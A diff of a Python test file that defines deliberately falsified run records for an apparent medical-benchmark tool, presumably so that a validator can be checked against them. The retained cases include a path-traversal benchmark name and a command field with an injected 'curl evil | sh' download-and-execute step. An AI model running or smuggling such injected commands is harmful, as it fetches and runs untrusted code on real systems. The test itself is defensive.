@@ -102,13 +102,7 @@ LIES = {
         r["benchmark"].update(name="../../x"),
         r["request"].update(benchmark="../../x"),
     ),
-    "is a baseline": lambda r: r.update(command="medprobe eval mediconfusion --model baseline:oracle"),
     "leave it null": lambda r: r.update(command="medprobe eval x; curl evil | sh"),
-    "responder": lambda r: r["model"].update(kind="baseline"),
-    "are not those of baseline:chance": lambda r: (
-        r["model"].update(kind="baseline", responder="guessing"),
-        r["request"].update(model="baseline:chance"),
-    ),
     "differ: image": lambda r: r["method"].update(image="swapped"),
     "samples of each question": lambda r: (r["method"].update(samples=10**9), r["request"].update(samples=10**9)),
     "finish the run first": lambda r: (r["method"].update(samples=3), r["request"].update(samples=3)),
